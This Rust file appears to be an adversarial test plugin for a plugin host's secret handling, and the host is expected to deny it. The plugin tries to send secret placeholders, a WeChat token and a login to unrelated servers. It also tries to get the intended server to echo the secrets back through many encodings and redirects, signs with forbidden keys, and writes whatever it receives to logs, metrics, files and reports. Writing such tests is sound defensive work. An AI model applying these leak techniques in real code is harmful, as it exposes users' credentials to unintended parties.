//! Expected outcome: denied. Sends secrets to servers that they are not for, has them given back by the one that they are for
//! in every way there is, signs with what it may not, and puts all that it hears wherever a plugin can put anything.

use std::io::Read;

use schemars::JsonSchema;
use serde::Deserialize;
use upkeep_plugin::files::Root;
use upkeep_plugin::http::Request;
use upkeep_plugin::secrets::{Algorithm, Part, basic, hmac, hmac_of, placeholder};
use upkeep_plugin::{Context, Document, Error, Report, Result, Severity, Table, info, metrics, state};

#[derive(Deserialize, JsonSchema)]
struct Attack {
    /// How it ends.
    end: End,
    /// The server that the secrets are for.
    bound: String,
    /// Addresses that no secret is for.
    others: Vec<String>,
    /// The secrets that may be filled in.
    secrets: Vec<String>,
    /// The one that signs.
    signing: String,
    /// An access token of WeChat, which goes into the URL only.
    token: String,
    /// One that is a login, `user:password`.
    login: String,
}

#[derive(Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
enum End {
    Report,
    Failure,
    Panic,
}

/// Everything that can be heard of an answer.
fn ask(request: Request) -> Result<String> {
    let mut response = request.send()?;
    let mut heard = response.status().to_string();
    for name in ["x-echo", "location", "content-length", "etag"] {
        heard.push_str(&format!(" {name}: {:?}", response.header(name)));
    }
    let mut body = Vec::new();
    let read = response.read_to_end(&mut body);
    heard.push_str(&String::from_utf8_lossy(&body));
    read.map_err(|error| Error::permanent(format!("{heard}, then {error}")))?;
    Ok(heard)
}

/// A request with the secret in each place where it could be.
fn full(url: &str, secret: &str) -> Request {
    let it = placeholder(secret);
    let query = if url.contains('?') { '&' } else { '?' };
    Request::post(format!("{url}{query}key={it}"), format!("{{\"secret\": \"{it}\"}}"))
        .header("content-type", "application/json")
        .header("authorization", format!("Bearer {it}"))
}

fn everything(config: &Attack) -> Vec<(String, Result<String>)> {
    let mut all = Vec::new();
    let mut note = |name: String, heard: Result<String>| all.push((name, heard));
    for secret in &config.secrets {
        let it = placeholder(secret);
        for url in &config.others {
            for (place, request) in [
                ("header", Request::get(url).header("x-key", it.as_str())),
                ("query", Request::get(format!("{url}?a={it}"))),
                ("path", Request::get(format!("{url}{it}"))),
                ("encoded", Request::get(format!("{url}?a=%7b%7Bsecret%3A{secret}%7D%7d"))),
                ("body", Request::post(url, it.as_str())),
            ] {
                note(format!("other {url} {place} {secret}"), ask(request));
            }
        }
        let bound = &config.bound;
        for way in ["echo", "pieces", "header", "json", "base64", "broken", "garbled", "gzip"] {
            note(format!("{way} {secret}"), ask(full(&format!("{bound}/{way}"), secret)));
        }
        // What was sent before, given back to one who sends nothing.
        note(format!("last {secret}"), ask(Request::get(format!("{bound}/last"))));
        note(format!("range {secret}"), ask(full(&format!("{bound}/echo"), secret).header("range", "bytes=0-9")));
        note(format!("userinfo {secret}"), ask(Request::get(bound.replace("://", &format!("://{it}@")))));
        let redirect = full(&format!("{bound}/redirect?to={}", config.others[0]), secret).send();
        if let Some(next) = redirect.ok().and_then(|response| response.header("location").map(str::to_owned)) {
            note(format!("redirect {secret} to {next}"), ask(Request::get(&next)));
        }
        note(format!("sign {secret}"), shown(hmac(Algorithm::Sha1, &it, "x")));
    }
    let token = placeholder(&config.token);
    for url in &config.others {
        note(format!("token other {url}"), ask(Request::get(format!("{url}?access_token={token}"))));
    }
    let bound = &config.bound;
    let echo = format!("{bound}/echo");
    note("token in header".to_owned(), ask(Request::get(&echo).header("x-key", token.as_str())));
    note("token in body".to_owned(), ask(Request::post(&echo, token.as_str())));
    note("token sign".to_owned(), shown(hmac(Algorithm::Sha256, &token, "x")));
    note("token path".to_owned(), ask(Request::get(format!("{bound}/{token}"))));
    for way in ["echo", "pieces", "header", "json", "base64", "broken", "garbled", "gzip", "stale", "rid"] {
        let url = format!("{bound}/{way}?key={token}");
        note(format!("token {way}"), ask(Request::get(&url)));
        // Whatever the server was told last: by the host too, when it renewed the token.
        note(format!("token {way} last"), ask(Request::get(format!("{bound}/last"))));
    }
    let unknown = full(&format!("{}/echo", config.bound), "unknown");
    note("unknown".to_owned(), ask(unknown));
    let (it, echo) = (basic(&config.login), format!("{}/echo", config.bound));
    note("basic".to_owned(), ask(Request::get(&echo).header("authorization", format!("Basic {it}"))));
    note("basic in a query".to_owned(), ask(Request::get(format!("{echo}?key={it}"))));
    note("basic in a body".to_owned(), ask(Request::post(&echo, it.as_str())));
    note("basic elsewhere".to_owned(), ask(Request::get(&config.others[0]).header("authorization", it)));
    let no_login = basic(&config.secrets[0]);
    note("basic of no login".to_owned(), ask(Request::get(&echo).header("authorization", no_login)));
    let decoded = Part::decoded(&config.secrets[0]);
    note("sign decoded".to_owned(), shown(hmac_of(Algorithm::Sha256, &[decoded], &[])));
    note("sign no base64".to_owned(), shown(hmac_of(Algorithm::Sha256, &[Part::decoded(&config.signing)], &[])));
    let key = placeholder(&config.signing);
    note("sign nothing".to_owned(), shown(hmac_of(Algorithm::Sha256, &[Part::bytes(key.as_str())], &[])));
    note("sign unknown".to_owned(), shown(hmac(Algorithm::Sha256, "{{secret:unknown}}", &key)));
    note("send what signs".to_owned(), ask(full(&format!("{}/echo", config.bound), &config.signing)));
    note("sign".to_owned(), shown(hmac(Algorithm::Sha256, &key, &key)));
    all
}

fn shown(signature: Result<Vec<u8>, upkeep_plugin::HostError>) -> Result<String> {
    Ok(signature?.iter().map(|byte| format!("{byte:02x}")).collect())
}

fn attack(_: &Context, config: Attack) -> Result<Report> {
    let root = Root::open("out")?;
    let mut report = Report::new(format!("it is {}", placeholder(&config.secrets[0])));
    let mut table = Table::new("heard", ["attempt", "heard"]);
    let mut text = String::new();
    for (at, (name, heard)) in everything(&config).into_iter().enumerate() {
        let heard = match heard {
            Ok(heard) => format!("reached, {heard}"),
            Err(error) => error.to_string(),
        };
        info!(heard = heard, "attempt {name}: {heard}");
        state::put(&format!("heard/{at}"), &heard)?;
        let label: String = heard.chars().take(100).collect();
        metrics::gauge("heard", &[("what", &label)], 1.0)?;
        root.write(&format!("heard-{at}"), &heard)?;
        report = report.finding(Severity::Info, format!("heard/{at}"), heard.clone(), heard.clone());
        table = table.row([name.clone(), heard.clone()]);
        text.push_str(&format!("{name}: {heard}\n"));
    }
    let content = text.clone();
    report.documents.push(Document { name: "heard.txt".into(), media_type: "text/plain".into(), content });
    match config.end {
        End::Report => Ok(report.table(table).text(text)),
        End::Failure => Err(Error::permanent(text)),
        End::Panic => panic!("{text}"),
    }
}

upkeep_plugin::export!(fn attack);
